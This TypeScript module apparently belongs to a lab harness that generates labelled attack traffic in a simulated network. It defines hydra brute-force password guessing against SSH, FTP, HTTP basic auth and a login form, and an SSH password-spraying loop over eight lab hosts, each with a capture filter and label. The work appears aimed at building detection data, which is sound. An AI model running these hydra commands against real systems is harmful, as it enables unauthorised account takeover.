import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { addressOf } from '../network.js';
import { ACCOUNT } from '../site.js';
import type { Stage } from '../stage.js';
import { type Attack, INSIDER, ownAttacker } from './attack.js';

interface Guessing {
  readonly name: string;
  readonly machine: string;
  readonly port: number;
  readonly service: readonly string[];
  readonly guesses: number;
  readonly options?: readonly string[];
  readonly isFoundAtLast?: boolean;
  readonly limitS?: number;
  /** Who guesses; the attacker outside, with an address of its own, unless told. */
  readonly from?: string;
}

function wordList(stage: Stage, guesses: number, isFoundAtLast: boolean): string {
  const words = Array.from({ length: guesses }, (_, index) => `Summer${2000 + index}!`);
  if (isFoundAtLast) words.push(ACCOUNT.password);
  const path = join(stage.folder, `words-${guesses}-${isFoundAtLast}.txt`);
  writeFileSync(path, `${words.join('\n')}\n`);
  return path;
}

/** Passwords tried one after the other on one server, with hydra. */
function guessing({
  name,
  machine,
  port,
  service,
  guesses,
  options = [],
  isFoundAtLast = false,
  limitS = 40,
  from = 'attacker',
}: Guessing): Attack {
  const victim = addressOf(machine);
  const attacker = from === 'attacker' ? ownAttacker() : addressOf(from);
  return {
    name,
    label: `password_guessing_${name.replaceAll('-', '_')}`,
    category: 'bruteforce',
    attacker,
    victim,
    filter: `host ${attacker} and host ${victim} and tcp port ${port}`,
    limitS,
    tools: ['hydra'],
    note: `${guesses} guesses${isFoundAtLast ? ', then the right one' : ''}`,
    run: (stage) => {
      const list = ['-l', ACCOUNT.name, '-P', wordList(stage, guesses, isFoundAtLast)];
      return stage.run(from, ['hydra', '-I', '-q', '-t', '4', ...list, ...options, victim, ...service], limitS);
    },
  };
}

/** Two passwords on every SSH server. */
const spraying: Attack = {
  name: 'ssh-spraying',
  label: 'password_guessing_ssh_spraying',
  category: 'bruteforce',
  attacker: INSIDER,
  victim: '10.77.0.0/24',
  filter: `host ${INSIDER} and tcp port 22`,
  limitS: 40,
  tools: ['hydra'],
  note: 'two guesses on each of eight servers, twice',
  run: async (stage) => {
    const hosts = ['ssh', 'files', 'web', 'mail', 'ftp', 'client2', 'client3', 'client4'].map(addressOf);
    for (let round = 0; round < 2; round++) {
      for (const host of hosts) {
        const list = ['-l', ACCOUNT.name, '-P', wordList(stage, 2, false)];
        await stage.run('insider', ['hydra', '-I', '-q', '-t', '1', ...list, host, 'ssh'], 10);
      }
    }
  },
};

/** Guessing, fast and slow, on one server and on many. */
export const CREDENTIALS: readonly Attack[] = [
  guessing({ name: 'hydra-ssh', machine: 'ssh', port: 22, service: ['ssh'], guesses: 40 }),
  guessing({ name: 'hydra-ftp', machine: 'ftp', port: 21, service: ['ftp'], guesses: 60 }),
  guessing({ name: 'hydra-ftp-found', machine: 'ftp', port: 21, service: ['ftp'], guesses: 30, isFoundAtLast: true }),
  guessing({
    name: 'hydra-http-basic',
    machine: 'web',
    port: 80,
    service: ['http-get', '/private/'],
    guesses: 100,
    isFoundAtLast: true,
  }),
  guessing({
    name: 'hydra-http-form',
    machine: 'web',
    port: 80,
    service: ['http-post-form', '/login:user=^USER^&pass=^PASS^:wrong name'],
    guesses: 100,
  }),
  {
    ...guessing({
      name: 'hydra-ssh-slow',
      from: 'patient2',
      machine: 'ssh',
      port: 22,
      service: ['ssh'],
      guesses: 10,
      options: ['-t', '1', '-c', '8'],
      limitS: 100,
    }),
    isAlongside: true,
  },
  spraying,
];
